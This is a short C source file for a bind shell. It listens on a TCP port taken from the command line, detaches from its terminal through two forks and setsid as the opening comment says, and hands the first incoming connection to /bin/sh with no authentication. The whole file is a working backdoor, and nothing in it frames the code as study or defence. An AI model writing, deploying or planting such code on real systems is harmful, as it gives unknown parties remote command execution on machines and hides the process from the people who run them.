/* listen, leave the terminal as a daemon does (two forks), hand the connection to a shell: its parent is gone */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in at = {.sin_family = AF_INET};
	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0), taken;

	if (argc != 2)
		return 2;
	at.sin_port = htons((unsigned short)atoi(argv[1]));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(fd, (struct sockaddr *)&at, sizeof at) != 0 || listen(fd, 1) != 0)
		return 1;
	if (fork() != 0)
		return 0;
	setsid();
	taken = accept(fd, NULL, NULL);
	if (taken < 0 || fork() != 0)
		return 0;
	dup2(taken, 0);
	dup2(taken, 1);
	dup2(taken, 2);
	execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}
